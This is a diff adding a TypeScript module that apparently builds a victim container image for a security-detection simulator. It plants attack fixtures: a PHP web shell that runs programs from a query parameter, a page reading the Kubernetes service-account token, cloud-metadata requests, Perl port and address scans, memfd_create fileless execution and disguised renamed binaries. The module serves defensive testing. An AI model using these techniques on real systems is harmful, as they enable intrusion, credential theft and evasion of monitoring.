@@ -1,0 +1,79 @@
+import { chmodSync, chownSync, copyFileSync, mkdirSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
+import type { VictimRoot } from "@atalaya/simulator";
+import { Fault } from "@atalaya/wire";
+
+// What the attacks need in the victim's image. A program that is copied while the container runs is a drift binary
+// and known as one; only a copy in the image shows that the name was never the only mark.
+
+/** Programs of the image under names that say nothing. */
+const renamed = {
+  "opt/report": "usr/bin/dash",
+  "opt/show": "usr/bin/cat",
+  "opt/look": "usr/bin/find",
+  "opt/select": "usr/bin/grep",
+  "opt/walk": "usr/bin/nmap",
+  "opt/fetch": "usr/bin/curl",
+  "opt/probe": "usr/bin/perl",
+  "opt/work": "usr/bin/true",
+  "opt/load": "usr/bin/true",
+  "opt/xmrig": "usr/bin/true",
+} as const;
+
+const connectTo = `use Socket;
+sub try_one {
+  socket(my $s, PF_INET, SOCK_STREAM, 0) or die;
+  connect($s, sockaddr_in($_[1], inet_aton($_[0])));
+  close($s);
+}
+`;
+
+const files: Record<string, string> = {
+  // The program and its arguments come as argv[]: no shell takes part.
+  "var/www/html/run.php": `<?php
+$program = proc_open($_GET["argv"], [["file", "/dev/null", "r"], ["pipe", "w"], ["file", "/dev/null", "w"]], $pipes);
+if ($program !== false) { echo stream_get_contents($pipes[1]); proc_close($program); }
+`,
+  "var/www/html/token.php": `<?php echo strlen(file_get_contents("/var/run/secrets/kubernetes.io/serviceaccount/token"));\n`,
+  "opt/steps.sh": "id\n",
+  "opt/preload.sh": ": >> /etc/ld.so.preload\n",
+  // Opened for writing and nothing written: even where the container may, the machine stays as it is.
+  "opt/huge-pages.sh": ": >> /proc/sys/vm/nr_hugepages\n",
+  "opt/read-huge-pages.sh": ": < /proc/sys/vm/nr_hugepages\n",
+  "opt/metadata.curl": 'url = "http://169.254.169.254/latest/meta-data/"\n',
+  "opt/attacker.curl": 'url = "http://10.99.7.2/latest/meta-data/"\n',
+  "opt/addresses.pl": `${connectTo}try_one("10.99.7.$_", 8443) for (10 .. 9 + $ARGV[0]);\n`,
+  "opt/ports.pl": `${connectTo}try_one("10.99.7.2", $_) for (9000 .. 8999 + $ARGV[0]);\n`,
+  "opt/connect.pl": `${connectTo}try_one($ARGV[0], $ARGV[1]);\n`,
+  "opt/module.pl": 'exec { "/sbin/modprobe" } "modprobe", "overlay"; exit 0;\n',
+  "opt/start.pl": 'exec { "/opt/work" } "work";\n',
+  // memfd_create(2): 319 on x86_64, 279 on arm64. Without close-on-exec, or the program could not be named.
+  "opt/memory.pl": `open(my $in, "<", "/bin/true") or die; binmode($in); local $/; my $program = <$in>;
+my $name = "work";
+my $fd = syscall($ARGV[0], $name, 0);
+open(my $out, ">&=", $fd) or die; binmode($out); $out->autoflush(1); print $out $program;
+exec { "/proc/self/fd/$fd" } "work";
+`,
+  "root/.ssh/id_rsa": "planted\n",
+  "root/.ssh/config": "Host *\n",
+  "home/user/.gitconfig": "[user]\n",
+};
+
+export const memfdCreate = process.arch === "arm64" ? "279" : "319";
+
+/** Fills the image's last layer. Throws Fault when the root is busybox' alone: the tools of the attacks are Debian's. */
+export function addAttackTools(layer: string, root: VictimRoot): void {
+  if (root.kind !== "debian") {
+    throw new Fault("SIMULATION_UNAVAILABLE", `the attacks need a Debian root: ${root.reason ?? "it could not be made"}`);
+  }
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(layer, path)), { recursive: true, mode: 0o755 });
+    writeFileSync(join(layer, path), text, { mode: 0o644 });
+  }
+  for (const [path, program] of Object.entries(renamed)) {
+    copyFileSync(join(root.path, program), join(layer, path));
+    chmodSync(join(layer, path), 0o755);
+  }
+  chownSync(join(layer, "root/.ssh/id_rsa"), 0, 0);
+  chmodSync(join(layer, "root/.ssh/id_rsa"), 0o600);
+}
